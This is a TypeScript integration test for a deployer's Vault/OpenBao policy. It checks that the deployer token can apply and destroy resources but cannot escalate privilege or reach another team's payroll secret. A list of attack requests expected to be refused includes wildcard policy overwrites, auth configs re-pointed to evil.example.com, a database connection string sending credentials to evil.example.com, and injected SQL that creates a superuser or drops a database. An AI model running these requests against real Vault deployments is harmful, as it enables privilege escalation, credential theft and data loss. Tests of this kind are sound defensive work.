import { type Blueprint, blueprint, type VaultPlan, vaultPolicy } from "../../lib/blueprint";
import { defineRegistry, type Registry } from "../../lib/model";
import {
  loadDatabaseServer,
  type RehearsedDatabase,
  rehearsedDeployer,
  type VaultCall,
} from "../../packages/rehearsal/src/load";
import {
  type ClusterIssuer,
  type OpenBao,
  OpenBaoRefusal,
  type Postgres,
  ServerGroup,
  startClusterIssuer,
  startOpenBao,
  startPostgres,
} from "../../packages/rehearsal/src/servers";
import { callWith } from "./rehearsed-environment";
import { vaultDraft } from "./rehearsed-vault";
import { CHILD_TOKEN, providerResources } from "./vault-provider-calls";

let group: ServerGroup;
let postgres: Postgres;
let issuer: ClusterIssuer;

beforeAll(async () => {
  group = ServerGroup.open();
  postgres = await startPostgres({ group });
  issuer = await startClusterIssuer({ group });
}, 120_000);

afterAll(() => group?.stop(), 60_000);

const EVERYTHING = 'path "*" { capabilities = ["create", "read", "update", "delete", "list", "sudo"] }\n';
/** Secret of another team in the same Vault. */
const PAYROLL = "kv-payroll/data/salaries";

/** A Vault with another team in it, and a token with the deployer's policy and no other. */
interface DeployersVault {
  readonly blueprint: Blueprint;
  readonly plan: VaultPlan;
  readonly server: OpenBao;
  readonly databases: Readonly<Record<string, RehearsedDatabase>>;
  readonly root: VaultCall;
  readonly deployer: VaultCall;
}

type Environment = { vaultAuth?: "kubernetes" | "jwt"; vaults: { deployer?: string; namespace?: string }[] };

async function deployersVault(change: (environment: Environment) => void): Promise<DeployersVault> {
  const definition = vaultDraft();
  // Outside of a cluster Vault has no certificate of its API server.
  definition.environments.dev.clusters[0].caPem = issuer.caPem;
  change(definition.environments.dev);
  const plans = blueprint(defineRegistry(definition) as Registry, "dev");
  const [plan] = plans.vaults;
  if (!plan) throw new Error("no Vault");
  const server = await startOpenBao({ group });
  const administrator = callWith(server, server.rootToken);
  await administrator("POST", "sys/mounts/kv-payroll", { type: "kv", options: { version: "2" } });
  await administrator("POST", PAYROLL, { data: { ceo: "a lot" } });
  await administrator("PUT", "sys/policies/acl/payroll", {
    policy: 'path "kv-payroll/*" { capabilities = ["read", "list"] }',
  });
  if (plan.namespace) await administrator("POST", `sys/namespaces/${plan.namespace}`);
  const inNamespace =
    (token: string): VaultCall =>
    async (method, path, body) => {
      const answer = await server.call(method, path, {
        token,
        ...(body ? { body } : {}),
        ...(plan.namespace ? { namespace: plan.namespace } : {}),
      });
      return answer.data ?? answer.auth;
    };
  const root = inNamespace(server.rootToken);
  const databases = await loadDatabaseServer(postgres, plans, plan);
  const { name, text } = rehearsedDeployer(plan, { issuer, databases });
  await root("PUT", `sys/policies/acl/${name}`, { policy: text });
  const tokenOf = async (call: VaultCall, body: object): Promise<VaultCall> => {
    const { client_token } = (await call("POST", "auth/token/create", body)) as { client_token: string };
    return inNamespace(client_token);
  };
  const given = await tokenOf(root, { policies: [name], no_default_policy: true });
  return { blueprint: plans, plan, server, databases, root, deployer: await tokenOf(given, CHILD_TOKEN) };
}

/** Status of a call: 200 when it was taken. */
const statusOf = (call: Promise<unknown>): Promise<number> =>
  call.then(
    () => 200,
    (error: unknown) => {
      if (error instanceof OpenBaoRefusal) return error.status;
      throw error;
    },
  );

describe.each(["kubernetes", "jwt"] as const)(
  "the deployer's token, where pods log in by %s",
  (vaultAuth) => {
    let vault: DeployersVault;

    beforeAll(async () => {
      vault = await deployersVault((environment) => {
        environment.vaultAuth = vaultAuth;
      });
    }, 60_000);

    test("is enough for an apply, the plans after it, a change, and a destroy", async () => {
      const resources = providerResources({ ...vault, issuer });
      const { deployer } = vault;
      for (const { create, read } of resources) {
        await create(deployer);
        await read(deployer);
      }
      for (const { read } of resources) await read(deployer);
      for (const { update, read } of resources) {
        await update?.(deployer);
        await read(deployer);
      }
      for (const { delete: destroy } of [...resources].reverse()) await destroy?.(deployer);
      for (const { create } of resources) await create(deployer);
    }, 60_000);

    test("reaches nothing of another team, whatever it writes first", async () => {
      const { plan, deployer, root } = vault;
      const [role] = plan.roles;
      const [policy] = plan.policies;
      const auth = plan.auths[0];
      const { mirror } = plan;
      if (!role || !policy || !auth || !mirror) throw new Error("nothing to attack");
      const rolePath = `auth/${role.mount}/role/${role.name}`;
      const binding =
        vaultAuth === "jwt"
          ? {
              role_type: "jwt",
              user_claim: "sub",
              bound_audiences: [role.audience],
              bound_subject: `system:serviceaccount:${role.namespace}:${role.serviceAccount}`,
            }
          : {
              bound_service_account_names: [role.serviceAccount],
              bound_service_account_namespaces: [role.namespace],
              audience: role.audience,
            };
      const own = `sys/policies/acl/${plan.deployer.name}`;
      const acl = `sys/policies/acl/${policy.name}`;
      const [connection] = plan.databases[0]?.connections ?? [];
      const engine = plan.databases[0]?.mount;
      const attacks: readonly (readonly [
        what: string,
        method: "GET" | "PUT" | "POST" | "DELETE" | "LIST",
        path: string,
        body?: object,
      ])[] = [
        ["its own policy", "PUT", own, { policy: EVERYTHING }],
        ["its own policy by the old path", "PUT", `sys/policy/${plan.deployer.name}`, { policy: EVERYTHING }],
        ["its own policy, gone", "DELETE", own],
        ["a workload's policy", "PUT", acl, { policy: EVERYTHING }],
        ["a workload's policy and more", "PUT", acl, { policy: `${policy.text}${EVERYTHING}` }],
        ["a workload's policy, encoded", "PUT", acl, { policy: Buffer.from(EVERYTHING).toString("base64") }],
        ["a workload's policy as rules", "PUT", acl, { rules: EVERYTHING }],
        ["a workload's policy by two texts", "PUT", acl, { policy: policy.text, rules: EVERYTHING }],
        ["the mirror's policy", "PUT", `sys/policies/acl/${mirror.policy.name}`, { policy: EVERYTHING }],
        ["another team's policy", "PUT", "sys/policies/acl/payroll", { policy: EVERYTHING }],
        ["a new policy", "PUT", "sys/policies/acl/evil", { policy: EVERYTHING }],
        ["a role with another policy", "PUT", rolePath, { ...binding, token_policies: ["payroll"] }],
        [
          "a role with one policy more",
          "PUT",
          rolePath,
          { ...binding, token_policies: [...role.policies, "payroll"] },
        ],
        [
          "a role with policies as text",
          "PUT",
          rolePath,
          { ...binding, token_policies: `${role.policies[0]},payroll` },
        ],
        ["a role with policies by the old name", "PUT", rolePath, { ...binding, policies: ["payroll"] }],
        ["a role with the default policy", "PUT", rolePath, { ...binding, token_no_default_policy: false }],
        ["a role for endless tokens", "PUT", rolePath, { ...binding, token_period: "24h" }],
        [
          "the mirror's role with another policy",
          "PUT",
          `auth/${mirror.authMount}/role/${mirror.role}`,
          { token_policies: ["payroll"] },
        ],
        [
          "a role of its own",
          "PUT",
          `auth/${role.mount}/role/evil`,
          { ...binding, token_policies: ["payroll"] },
        ],
        ...(vaultAuth === "jwt"
          ? ([
              [
                "a role for another pod",
                "PUT",
                rolePath,
                { ...binding, bound_subject: "system:serviceaccount:evil:evil" },
              ],
              ["a role for any pod", "PUT", rolePath, { ...binding, bound_subject: "" }],
              [
                "keys of its own",
                "PUT",
                `auth/${auth.mount}/config`,
                { jwt_validation_pubkeys: ["PEM"], bound_issuer: auth.issuer },
              ],
              [
                "another issuer's keys",
                "PUT",
                `auth/${auth.mount}/config`,
                { jwks_url: "https://evil.example.com/keys" },
              ],
            ] as const)
          : ([
              ["a role for another pod", "PUT", rolePath, { ...binding, bound_service_account_names: ["*"] }],
              [
                "a role for another namespace",
                "PUT",
                rolePath,
                { ...binding, bound_service_account_namespaces: ["evil"] },
              ],
              [
                "a role for every namespace",
                "PUT",
                rolePath,
                { ...binding, bound_service_account_namespace_selector: "{}" },
              ],
              [
                "an API server of its own",
                "PUT",
                `auth/${auth.mount}/config`,
                { kubernetes_host: "https://evil.example.com" },
              ],
              [
                "keys of its own",
                "PUT",
                `auth/${auth.mount}/config`,
                { kubernetes_host: auth.apiServer, pem_keys: "PEM" },
              ],
            ] as const)),
        [
          "AWS's issuer",
          "PUT",
          `auth/${mirror.authMount}/config`,
          { oidc_discovery_url: "https://evil.example.com", bound_issuer: mirror.issuer },
        ],
        ["another method at its mount", "POST", `sys/auth/${auth.mount}`, { type: "userpass" }],
        ["another engine at its mount", "POST", `sys/mounts/${plan.kv.mount}`, { type: "transit" }],
        [
          "a database elsewhere",
          "PUT",
          `${engine}/config/${connection?.name}`,
          {
            plugin_name: connection?.plugin,
            connection_url: "postgresql://{{username}}:{{password}}@evil.example.com/app",
          },
        ],
        [
          "statements at the rotation of the root",
          "PUT",
          `${engine}/config/${connection?.name}`,
          { root_rotation_statements: ["SELECT '{{password}}'"] },
        ],
        [
          "statements for a user",
          "PUT",
          `${engine}/roles/db--ro`,
          { db_name: "db--ro", creation_statements: ["CREATE ROLE evil SUPERUSER"] },
        ],
        [
          "statements at the end of a user",
          "PUT",
          `${engine}/roles/db--ro`,
          { db_name: "db--ro", revocation_statements: ["DROP DATABASE app"] },
        ],
        ["another mount", "POST", "sys/mounts/kv-evil", { type: "kv" }],
        ["an entity with policies", "POST", "identity/entity", { policies: ["payroll"] }],
        ["an audit device", "PUT", "sys/audit/file", { type: "file" }],
        ["what the other team has", "GET", PAYROLL],
        ["names of what the other team has", "LIST", "kv-payroll/metadata"],
      ];
      const taken: string[] = [];
      for (const [what, method, path, body] of attacks) {
        const status = await statusOf(deployer(method, path, body));
        if (status !== 403) taken.push(`${what}: ${status}`);
      }
      expect(taken).toEqual([]);
      // Policies that a token has not got it cannot give to a child.
      expect(await statusOf(deployer("POST", "auth/token/create", { policies: ["payroll"] }))).not.toBe(200);
      expect(await statusOf(deployer("POST", "auth/token/create", { policies: ["root"] }))).not.toBe(200);
      expect(await root("GET", acl)).toMatchObject({ policy: policy.text });
      process.stdout.write(
        `${vaultAuth}: ${attacks.length + 2} attacks of the deployer's token, all refused\n`,
      );
    }, 60_000);
  },
);

test("where pods log in by jwt, it can let other pods of the cluster into this environment, and no further", async () => {
  const vault = await deployersVault((environment) => {
    environment.vaultAuth = "jwt";
  });
  for (const { create } of providerResources({ ...vault, issuer })) await create(vault.deployer);
  const [role] = vault.plan.roles;
  if (!role) throw new Error("no role");
  const path = `auth/${role.mount}/role/${role.name}`;
  await vault.deployer("DELETE", path);
  // Nothing asks for a parameter that is left out.
  const { policies: token_policies, audience } = role;
  await vault.deployer("PUT", path, {
    role_type: "jwt",
    user_claim: "sub",
    bound_audiences: [audience],
    token_policies,
    token_no_default_policy: true,
  });
  await vault.root("POST", `auth/${role.mount}/config`, {
    bound_issuer: issuer.url,
    oidc_discovery_url: issuer.url,
    oidc_discovery_ca_pem: issuer.caPem,
  });
  const jwt = issuer.token({ namespace: "other", serviceAccount: "other", audience });
  const { auth } = await vault.server.call("POST", `auth/${role.mount}/login`, {
    token: null,
    body: { role: role.name, jwt },
  });
  expect(auth?.token_policies).toEqual(role.policies);
  expect(await statusOf(vault.server.call("GET", PAYROLL, { token: auth?.client_token ?? null }))).toBe(403);
}, 60_000);

describe("a deployer that is bound by names alone", () => {
  const writeAll = async ({ plan, deployer }: DeployersVault): Promise<number> =>
    statusOf(deployer("PUT", `sys/policies/acl/${plan.policies[0]?.name}`, { policy: EVERYTHING }));

  /** A token with the policy of the first workload, as its pod gets it. */
  async function asPod({ plan, root, server }: DeployersVault): Promise<(path: string) => Promise<number>> {
    const { client_token } = (await root("POST", "auth/token/create", {
      policies: [plan.policies[0]?.name],
      no_default_policy: true,
    })) as { client_token: string };
    return (path) =>
      statusOf(
        server.call("GET", path, {
          token: client_token,
          ...(plan.namespace ? { namespace: plan.namespace } : {}),
        }),
      );
  }

  test("has a namespace to itself, and reaches nothing outside of it", async () => {
    const vault = await deployersVault((environment) => {
      Object.assign(environment.vaults[0] ?? {}, { deployer: "names", namespace: "acme-dev" });
    });
    for (const { create } of providerResources({ ...vault, issuer })) await create(vault.deployer);
    expect(await writeAll(vault)).toBe(200);
    const read = await asPod(vault);
    expect(await read("sys/mounts")).toBe(200);
    // The other team's mount is in the root namespace; from here there is none, by any path.
    expect(await read(PAYROLL)).toBe(404);
    for (const path of [`../${PAYROLL}`, `root/${PAYROLL}`]) expect(await read(path)).not.toBe(200);
    const { namespace } = vault.plan;
    for (const wrong of [null, "root", `${namespace}/..`]) {
      const token = await vault.server
        .call("GET", PAYROLL, { ...(wrong === null ? {} : { namespace: wrong }), token: null })
        .catch((error: unknown) => error);
      expect(token).toBeInstanceOf(OpenBaoRefusal);
    }
  }, 60_000);

  test("would be root of a Vault that it shares, so the rules refuse it there", async () => {
    const definition = vaultDraft();
    definition.environments.dev.vaults[0].deployer = "names";
    expect(() => defineRegistry(definition)).toThrow(/"names", in a Vault without a namespace/);
    // What the rule keeps away, with the policy that it would be.
    const vault = await deployersVault(() => undefined);
    const { name, rules } = vault.plan.deployer;
    const names = vaultPolicy(
      name,
      rules.map(({ path, capabilities }) => ({ path, capabilities })),
    );
    await vault.root("PUT", `sys/policies/acl/${name}`, { policy: names.text });
    expect(await writeAll(vault)).toBe(200);
    expect(await (await asPod(vault))(PAYROLL)).toBe(200);
  }, 60_000);
});
